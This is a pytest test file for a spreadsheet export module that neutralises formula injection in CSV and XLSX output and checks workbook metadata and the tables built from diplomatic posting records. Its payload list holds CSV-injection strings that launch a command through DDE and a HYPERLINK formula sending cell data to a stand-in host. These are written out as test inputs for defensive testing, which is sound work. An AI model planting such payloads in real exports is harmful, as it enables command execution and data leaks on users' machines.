import csv
import io
import zipfile
from dataclasses import replace
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from legation.publishing.tables import FORMULA_STARTS, Cell, Sheet, csv_bytes, formula_safe, sheets, xlsx_bytes
from tests.publishing.cases import CONTENT, TALLY

BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example?x="&A1,"click")', "SUM(1,2)", "IMPORTXML(A1,A2)",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")", "A1", "", " 1", "'1", "\"quoted\"", "1;2", "1,2", "a\r\nb", "@SUM(1)", "Имя",
)  # fmt: skip
LINKS_AND_LITERALS = (
    "http://a.example/", "mailto:a@b.example", "internal:Sheet1!A1", "1e5", "0012", "2020-01-02", "TRUE", "#REF!",
)  # fmt: skip
PAYLOADS = (*(start + body for start, body in product(FORMULA_STARTS, BODIES)), *LINKS_AND_LITERALS)
XLSX_UNPRINTABLE = {"\0", "\r"}


def sheet(*cells: Cell) -> Sheet:
    return Sheet(name="cells", header=("cell",), rows=tuple((cell,) for cell in cells))


def csv_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [row[0] if row else "" for row in rows[1:]]


def test_there_are_two_hundred_payloads() -> None:
    assert len(PAYLOADS) >= 200


def test_no_csv_cell_starts_like_a_formula_and_nothing_else_is_changed() -> None:
    read = csv_cells(csv_bytes(sheet(*PAYLOADS)))
    assert not [cell for cell in read if cell.startswith(FORMULA_STARTS)]
    assert [cell.replace("'", "") for cell in read] == [text.replace("'", "") for text in PAYLOADS]
    assert [cell for cell, text in zip(read, PAYLOADS, strict=True) if len(cell) > len(text) + 4] == []


@pytest.mark.parametrize("separator", [";", "|", "\t"])
def test_no_part_of_a_cell_is_a_formula_where_another_sign_parts_cells(separator: str) -> None:
    (cell,) = csv_cells(csv_bytes(sheet(f"Attaché{separator}=HYPERLINK(1){separator} +1{separator}Counsellor")))
    assert cell == f"Attaché{separator}'=HYPERLINK(1){separator}' +1{separator}Counsellor"


@given(st.text())
def test_a_text_is_either_unchanged_or_marked(text: str) -> None:
    safe = formula_safe(text)
    assert isinstance(safe, str)
    assert safe.replace("'", "") == text.replace("'", "")
    assert safe.startswith("'") or not safe.startswith(FORMULA_STARTS)


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1)))
def test_csv_gives_back_what_went_in(cells: list[str]) -> None:
    assert csv_cells(csv_bytes(sheet(*cells))) == [formula_safe(cell) for cell in cells]


def test_numbers_stay_numbers() -> None:
    assert csv_bytes(sheet(-2, 1.5, None)) == b'\xef\xbb\xbfcell\r\n-2\r\n1.5\r\n""\r\n'


def test_no_xlsx_cell_is_a_formula_or_a_link() -> None:
    payloads = [text for text in PAYLOADS if not XLSX_UNPRINTABLE & set(text)]
    page = load_workbook(io.BytesIO(xlsx_bytes([sheet(*payloads)])))["cells"]
    read = [row[0] for row in page.iter_rows(min_row=2)]
    assert [cell.value for cell in read] == payloads
    assert {cell.data_type for cell in read} == {"s"}
    assert not any(cell.hyperlink for cell in read)


def test_the_workbook_holds_no_formula_whatever_goes_in() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([sheet(*PAYLOADS)]))) as book:
        page = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in page
        assert b"<hyperlink" not in page
        assert not [name for name in book.namelist() if "externalLink" in name]


def test_a_workbook_tells_nothing_of_who_made_it_or_when() -> None:
    data = xlsx_bytes([sheet("a")])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        core = book.read("docProps/core.xml").decode()
    assert "<dc:creator></dc:creator>" in core
    assert "2000-01-01T00:00:00Z" in core
    assert data == xlsx_bytes([sheet("a")])


def test_a_text_longer_than_a_cell_ends_in_an_ellipsis() -> None:
    page = load_workbook(io.BytesIO(xlsx_bytes([sheet("a" * 40_000)])))["cells"]
    assert len(str(page["A2"].value)) == 32_767
    assert str(page["A2"].value).endswith("…")


@pytest.mark.parametrize("made", sheets(CONTENT), ids=lambda made: made.name)
def test_every_row_is_as_long_as_its_header(made: Sheet) -> None:
    assert made.rows
    assert {len(row) for row in made.rows} == {len(made.header)}
    assert "" not in {cell for row in made.rows for cell in row}


def test_no_table_about_persons_says_more_than_the_lists() -> None:
    about_persons = [made for made in sheets(CONTENT) if "person" in made.header]
    text = b"".join(csv_bytes(made) for made in about_persons).decode().casefold()
    assert "expel" not in text
    assert {made.name for made in about_persons} == {"postings", "changes", "presence"}


def test_a_posting_is_told_with_its_place() -> None:
    (postings,) = (made for made in sheets(CONTENT) if made.name == "postings")
    row = dict(zip(postings.header, postings.rows[0], strict=True))
    assert row["person"] == "Dario VELTRAN"
    assert (row["listed_to_earliest"], row["listed_to_latest"]) == ("2020-02-01", "2020-03-31")
    assert row["quote"] == "Dario VELTRAN"
    assert row["source"] == "1.txt"


def test_an_announcement_without_an_edition_beside_it_has_its_line_all_the_same() -> None:
    lone = replace(TALLY, steps=(), left=None, joined=None, rest=None, notes=("Nothing can be compared.",))
    content = replace(CONTENT, derived=replace(CONTENT.derived, tallies=(lone,)))
    (found,) = (sheet for sheet in sheets(content) if sheet.name == "tally")
    assert [dict(zip(found.header, row, strict=True))["announced"] for row in found.rows] == [5]
    assert found.rows[0][-1] == "Nothing can be compared."
